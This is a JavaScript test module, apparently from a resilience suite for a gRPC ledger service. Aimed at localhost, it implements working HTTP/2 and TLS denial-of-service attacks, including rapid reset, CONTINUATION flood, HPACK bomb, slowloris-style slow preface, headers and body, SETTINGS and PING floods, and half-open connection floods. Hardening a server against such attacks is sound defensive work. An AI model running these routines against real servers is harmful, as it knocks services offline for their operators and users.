// SPDX-License-Identifier: Apache-2.0
// Peers that mean ill, each with a terminal's certificate of the platform's CA. An attack is begun again and again on
// fresh connections until it is stopped; how many connections at once is its row's.
import net from 'node:net';
import { call, again, field, flags, frame, preface, types } from './frames.mjs';

const pause = (ms) => new Promise((resolve) => { setTimeout(resolve, ms); });

// Writes as long as the other side takes it.
async function pour(socket, stopped, make) {
  while (!socket.destroyed && !stopped()) {
    if (!socket.write(make()))
      await Promise.race([new Promise((resolve) => { socket.once('drain', resolve); socket.once('close', resolve); }), pause(1000)]);
    await new Promise(setImmediate);
  }
}

const odd = () => { let id = -1; return () => (id += 2); };

async function rapidReset(socket, stopped) {
  const next = odd();
  socket.write(preface);
  await pour(socket, stopped, () => Buffer.concat(Array.from({ length: 50 }, () => {
    const id = next();
    return Buffer.concat([frame(types.HEADERS, flags.END_HEADERS, id, call()),
      frame(types.RST_STREAM, 0, id, Buffer.from([0, 0, 0, 8]))]);
  })));
}

async function continuationFlood(socket, stopped) {
  socket.write(Buffer.concat([preface, frame(types.HEADERS, 0, 1, call())]));
  const more = frame(types.CONTINUATION, 0, 1, field('x', 'y'.repeat(100)));
  await pour(socket, stopped, () => Buffer.concat(Array(100).fill(more)));
}

async function hpackBomb(socket, stopped) {
  const next = odd();
  socket.write(preface);
  const large = field('x-large', 'y'.repeat(3900), true);
  await pour(socket, stopped, () => frame(types.HEADERS, flags.END_HEADERS, next(),
    Buffer.concat([call(), large, ...Array(8000).fill(again)])));
}

async function largeHeaders(socket, stopped) {
  const next = odd();
  socket.write(preface);
  await pour(socket, stopped, () => frame(types.HEADERS, flags.END_HEADERS, next(),
    Buffer.concat([call(), field('x', 'y'.repeat(16300 - call().length))])));
}

// A message that says it has four gigabytes, and as much of it as the window lets through.
async function largeMessage(socket, stopped) {
  const next = odd();
  socket.write(preface);
  await pour(socket, stopped, () => {
    const id = next();
    return Buffer.concat([frame(types.HEADERS, flags.END_HEADERS, id, call()),
      frame(types.DATA, 0, id, Buffer.concat([Buffer.from([0, 255, 255, 255, 255]), Buffer.alloc(16000)]))]);
  });
}

async function drip(socket, stopped, bytes) {
  for (const byte of bytes) {
    if (socket.destroyed || stopped()) return;
    socket.write(Buffer.from([byte]));
    await pause(100);
  }
}

const slowPreface = (socket, stopped) => drip(socket, stopped, preface);

async function slowHeaders(socket, stopped) {
  socket.write(Buffer.concat([preface, frame(types.HEADERS, 0, 1, call().subarray(0, 20))]));
  await drip(socket, stopped, frame(types.CONTINUATION, flags.END_HEADERS, 1, call().subarray(20)));
}

async function slowBody(socket, stopped) {
  socket.write(preface);
  for (let id = 1; id < 64; id += 2) socket.write(frame(types.HEADERS, flags.END_HEADERS, id, call()));
  await drip(socket, stopped, frame(types.DATA, 0, 1, Buffer.concat([Buffer.from([0, 0, 0, 3, 232]), Buffer.alloc(1000)])));
}

async function settingsFlood(socket, stopped) {
  socket.write(preface);
  const settings = frame(types.SETTINGS, 0, 0, Buffer.from([0, 3, 0, 0, 0, 100]));
  await pour(socket, stopped, () => Buffer.concat(Array(200).fill(settings)));
}

async function pingFlood(socket, stopped) {
  socket.write(preface);
  await pour(socket, stopped, () => Buffer.concat(Array(200).fill(frame(types.PING, 0, 0, Buffer.alloc(8)))));
}

async function emptyData(socket, stopped) {
  socket.write(Buffer.concat([preface, frame(types.HEADERS, flags.END_HEADERS, 1, call())]));
  await pour(socket, stopped, () => Buffer.concat(Array(200).fill(frame(types.DATA, 0, 1))));
}

// Asks for whole exports and reads nothing of them.
async function deaf(socket, stopped) {
  socket.write(preface);
  socket.pause();
  for (let id = 1; id < 200; id += 2)
    socket.write(Buffer.concat([frame(types.HEADERS, flags.END_HEADERS, id, call('/vrx.v1.Ledger/ExportEntries')),
      frame(types.DATA, flags.END_STREAM, id, Buffer.alloc(5))]));
  await wait(socket, stopped);
}

async function garbage(socket, stopped) {
  await pour(socket, stopped, () => Buffer.from(Array.from({ length: 4096 }, () => Math.floor(256 * Math.random()))));
}

// TLS 1.3 knows no renegotiation (RFC 8446 §4.1.2): a ClientHello in the middle is an unexpected message.
async function secondHello(socket, stopped) {
  const hello = Buffer.concat([Buffer.from([22, 3, 3, 2, 0]), Buffer.from([1, 0, 1, 252]), Buffer.alloc(508)]);
  await pour(socket, stopped, () => hello);
}

// The first bytes of a handshake that never ends, or none.
async function halfOpen(socket, stopped) {
  if (Math.random() < 0.5) socket.write(Buffer.from([22, 3, 1, 2, 0, 1]));
  await wait(socket, stopped);
}

async function wait(socket, stopped) {
  while (!socket.destroyed && !stopped()) await pause(100);
}

async function idle(socket, stopped) {
  socket.write(preface);
  await wait(socket, stopped);
}

// plain: on TCP, without a TLS handshake before. connections: at once.
export const attacks = {
  'rapid reset': { run: rapidReset, connections: 4 },
  'CONTINUATION flood': { run: continuationFlood, connections: 4 },
  'HPACK bomb': { run: hpackBomb, connections: 4 },
  'headers over the limit': { run: largeHeaders, connections: 4 },
  'messages over the limit': { run: largeMessage, connections: 4 },
  'slow preface': { run: slowPreface, connections: 200 },
  'slow headers': { run: slowHeaders, connections: 200 },
  'slow body': { run: slowBody, connections: 100 },
  'SETTINGS flood': { run: settingsFlood, connections: 4 },
  'PING flood': { run: pingFlood, connections: 4 },
  'empty DATA': { run: emptyData, connections: 4 },
  'replies not read': { run: deaf, connections: 8 },
  'garbage inside TLS': { run: garbage, connections: 4 },
  'garbage': { run: garbage, connections: 4, plain: true },
  'a second ClientHello': { run: secondHello, connections: 4, plain: true },
  'half-open connections': { run: halfOpen, connections: 500, plain: true },
  'idle connections': { run: idle, connections: Number(process.env.VRX_PEERS ?? 500) },
};

export const plainSocket = (port, from) => net.connect({ port, host: '127.0.0.1', localAddress: from });
